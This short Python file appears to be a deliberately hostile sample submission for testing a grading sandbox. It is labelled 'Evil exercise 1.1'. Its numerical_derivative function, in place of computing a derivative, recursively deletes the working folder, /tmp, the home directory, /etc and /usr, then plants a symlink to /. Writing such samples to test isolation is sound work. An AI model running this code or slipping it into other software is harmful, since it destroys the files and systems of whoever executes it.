"""Evil exercise 1.1: deletes its working folder and every file it can reach, then puts a
file and a symlink to / where the folder was (what a student's code could try)."""

import os
import shutil

TARGETS = ["/exercise", "/tmp", os.path.expanduser("~"), "/etc", "/usr"]


def numerical_derivative(f, x, h=1e-5):
    home = os.getcwd()
    for target in [home, *TARGETS]:
        if target != "/":
            shutil.rmtree(target, ignore_errors=True)
    if home != "/":
        for attempt in (lambda: open(home, "w").close(), lambda: os.symlink("/", home)):
            try:
                attempt()
            except OSError as error:
                print(error)
    return 0.0
